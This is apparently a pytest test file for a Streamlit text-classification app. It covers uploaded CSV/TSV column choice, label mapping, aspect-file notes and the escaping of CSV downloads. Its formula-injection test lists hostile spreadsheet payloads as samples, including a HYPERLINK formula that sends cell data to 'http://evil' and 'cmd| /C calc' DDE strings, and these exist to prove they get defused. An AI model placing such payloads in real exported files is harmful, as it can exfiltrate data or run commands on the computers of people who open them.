"""Uploads of people's own files: column boxes on a labeled table, the label mapping, notes said once, CSV downloads defused."""

from __future__ import annotations

import ast
import csv
import io

import pandas as pd
import pytest

from seqcore.tasks import read_task_file
from tests.app.appdata import ROOT
from ui.downloads import csv_bytes, csv_cell
from ui.reading import chosen_columns, column_guess, column_label, data_hash, label_mapping, mapping_line

FIXTURES = ROOT / "tests" / "fixtures"
HEADER_CSV = (FIXTURES / "reviews_header.csv").read_bytes()
TEXT_LABEL = (FIXTURES / "reviews_text_label.tsv").read_bytes()


# --------------------------------------------------------------------------- CSV injection


@pytest.mark.parametrize(
    "value,written",
    [
        ('=HYPERLINK("http://evil/?"&A1,"x")', '\'=HYPERLINK("http://evil/?"&A1,"x")'),
        ("+cmd| /C calc!A0", "'+cmd| /C calc!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-1", "-1"),  # a number written as text runs nothing
        ("+0.5", "+0.5"),
        ("plain text = fine", "plain text = fine"),
        (3, 3),
        (-0.25, -0.25),
    ],
)
def test_csv_cell_defuses_formulas_and_leaves_numbers(value, written):
    assert csv_cell(value) == written


def test_a_csv_download_of_formula_cells_reads_back_as_text():
    df = pd.DataFrame(
        [
            {"=cmd": '=HYPERLINK("http://x")', "label": "@risk", "p": -0.5},
            {"=cmd": "fine food", "label": "-", "p": 1.0},
        ]
    )
    rows = list(csv.reader(io.StringIO(csv_bytes(df).decode("utf-8"))))
    assert rows == [["'=cmd", "label", "p"], ['\'=HYPERLINK("http://x")', "'@risk", "-0.5"], ["fine food", "'-", "1.0"]]
    assert df.iloc[0, 0] == '=HYPERLINK("http://x")'  # the table on the page is untouched


def test_every_csv_download_goes_through_the_one_escaping_function():
    """No st.download_button of a CSV anywhere but ui/downloads.py (which writes through csv_bytes)."""
    found = []
    for path in [ROOT / "app.py", *(ROOT / "ui").glob("*.py"), *(ROOT / "app_pages").glob("*.py")]:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and getattr(node.func, "attr", None) == "download_button":
                mime = next((k.value for k in node.keywords if k.arg == "mime"), None)
                kind = mime.value if isinstance(mime, ast.Constant) else "?"
                found.append((path.name, kind))
            if isinstance(node, ast.Attribute) and node.attr == "to_csv":
                found.append((path.name, "to_csv"))
    assert sorted(found) == [("5_train.py", "application/zip"), ("downloads.py", "text/csv"), ("downloads.py", "to_csv")]


# --------------------------------------------------------------------------- column boxes and the mapping


def test_column_guess_offers_header_names_or_numbered_columns():
    guess = column_guess(HEADER_CSV, "reviews.csv")
    assert guess is not None and guess.names == ("id", "review", "sentiment", "stars")
    assert (guess.text, guess.label) == ("review", "sentiment")
    assert column_label(guess, "review") == "review"
    numbered = column_guess(TEXT_LABEL, "reviews.tsv")
    assert numbered is not None and (numbered.text, numbered.label) == ("1", "2")
    assert column_label(numbered, "2") == "column 2: 1"
    assert column_label(numbered, "1").startswith("column 1: The pasta was perfectly")
    assert chosen_columns(guess, "review", "sentiment") == (None, None)  # the guess itself: the reader decides
    assert chosen_columns(guess, "review", "stars") == ("review", "stars")
    assert column_guess(b"<sentences/>", "x.xml") is None and column_guess(b"\x00\x01", "x.csv") is None


def test_the_label_mapping_says_what_each_written_label_became():
    parsed = read_task_file("sentiment", (FIXTURES / "reviews_mixed_labels.jsonl").read_bytes(), "mixed.jsonl")
    assert label_mapping(parsed) == [(["1", "1.0", '"1"'], "1", 15), (['"0"', "0", "0.0"], "0", 15)]
    many = read_task_file("sentiment", b"text,label\n" + b"".join(b"a sentence of words,L%d\n" % i for i in range(30)), "m.csv")
    line = mapping_line(many)
    assert line is not None and line.endswith(", … and 10 more.") and line.count("→") == 21


def test_train_page_upload_shows_the_column_boxes_and_trains_on_the_choice(app):
    at = app()
    at.switch_page("app_pages/5_train.py").run()
    at.radio(key="train_source_sentiment").set_value("upload").run()
    at.file_uploader(key="train_upload_sentiment").set_value(("reviews.csv", HEADER_CSV, "text/csv")).run()
    assert not at.exception and not at.error
    digest = data_hash(HEADER_CSV)
    text_box = at.selectbox(key=f"train_upload_sentiment_text_column_{digest}")
    label_box = at.selectbox(key=f"train_upload_sentiment_label_column_{digest}")
    assert (text_box.value, label_box.value) == ("review", "sentiment")
    captions = "\n".join(c.value for c in at.caption)
    assert "label from column 'sentiment' \\(by name\\)" in captions or "by name" in captions
    assert "35 training sentences" in captions
    label_box.set_value("stars").run()
    assert not at.exception and not at.error
    captions = "\n".join(c.value for c in at.caption)
    assert "(given)" in captions.replace("\\", "") and "35 training sentences" in captions
    assert "→ 5 (16)" in captions.replace("\\", "")


def test_an_ambiguous_upload_asks_for_the_columns_instead_of_failing_silently(app):
    at = app()
    at.switch_page("app_pages/5_train.py").run()
    at.radio(key="train_source_sentiment").set_value("upload").run()
    data = b"positive\tgood\nnegative\tbad\n" * 4
    at.file_uploader(key="train_upload_sentiment").set_value(("two.tsv", data, "text/plain")).run()
    assert not at.exception
    assert "could not be read" in "\n".join(e.value for e in at.error)  # in red, with the reader's reason
    digest = data_hash(data)
    at.selectbox(key=f"train_upload_sentiment_text_column_{digest}").set_value("2").run()
    at.selectbox(key=f"train_upload_sentiment_label_column_{digest}").set_value("1").run()
    assert not at.exception and not at.error
    assert "8 training sentences" in "\n".join(c.value for c in at.caption)


def test_sentences_without_ids_are_one_note_not_a_warning_on_the_aspects_page(app):
    at = app()
    at.switch_page("app_pages/2_aspects.py").run()
    sentences = "".join(
        f'<sentence><text>Good {w} here.</text><aspectTerms><aspectTerm term="{w}" polarity="positive" from="5" to="{5 + len(w)}"/>'
        "</aspectTerms></sentence>"
        for w in ["food", "wine", "staff"] * 20
    )
    at.radio(key="asp_how").set_value("Upload a file").run()
    at.file_uploader(key="asp_upload").set_value(("no_ids.xml", f"<sentences>{sentences}</sentences>".encode(), "text/xml")).run()
    assert not at.exception and not at.error
    assert not at.warning, [w.value for w in at.warning]
    notes = [c.value for c in at.caption if "no id" in c.value]
    assert len(notes) == 1 and "60 sentences have no id" in notes[0]
    assert any("no problems found" in s.value for s in at.success)


def test_aspect_jsonl_and_absa_text_on_the_aspects_page_and_word_tags_on_tagging(app):
    at = app()
    at.switch_page("app_pages/2_aspects.py").run()
    at.radio(key="asp_how").set_value("Upload a file").run()
    for name in ("aspects.jsonl", "absa_pytorch.txt"):
        at.file_uploader(key="asp_upload").set_value((name, (FIXTURES / name).read_bytes(), "text/plain")).run()
        assert not at.exception and not at.error, name
        metrics = {m.label: str(m.value) for m in at.metric}
        assert metrics["problems"] == "3", name  # the fixture's three, listed in the table under the warning
        assert any("no id" in c.value for c in at.caption), name  # numbered: one note, not a problem row
    at.switch_page("app_pages/7_tagging.py").run()
    at.radio(key="tag_how").set_value("Upload a CoNLL-U file").run()
    at.file_uploader(key="tag_upload").set_value(("tags.txt", (FIXTURES / "word_tags.txt").read_bytes(), "text/plain")).run()
    assert not at.exception and not at.error
    assert "Accuracy over the file" in [m.label for m in at.metric]


def test_a_hostile_csv_shows_its_columns_and_labels_as_text(app):
    from tests.app.appdata import IMG, LINK, SCRIPT
    from tests.app.test_inert import assert_inert

    rows = [f"{IMG} text {SCRIPT},{LINK}"] + [
        f"The soup {IMG} was cold and bland today,{LINK if i % 2 else '=cmd'}" for i in range(8)
    ]
    data = "\n".join(rows).encode()
    at = app()
    at.switch_page("app_pages/5_train.py").run()
    at.radio(key="train_source_sentiment").set_value("upload").run()
    at.file_uploader(key="train_upload_sentiment").set_value((f"{IMG}.csv", data, "text/csv")).run()
    assert_inert(at)
    digest = data_hash(data)
    assert at.selectbox(key=f"train_upload_sentiment_text_column_{digest}").value == f"{IMG} text {SCRIPT}"
    assert "8 training sentences" in "\n".join(c.value for c in at.caption)
